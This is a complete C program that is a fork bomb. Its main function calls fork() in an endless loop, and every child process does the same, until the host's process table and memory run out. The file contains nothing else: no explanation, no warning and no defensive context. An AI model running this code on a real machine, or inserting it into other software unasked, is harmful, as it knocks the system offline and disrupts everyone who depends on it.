// Fork forever; children do the same.
#include <unistd.h>
int main() {
    for (;;) fork();
}
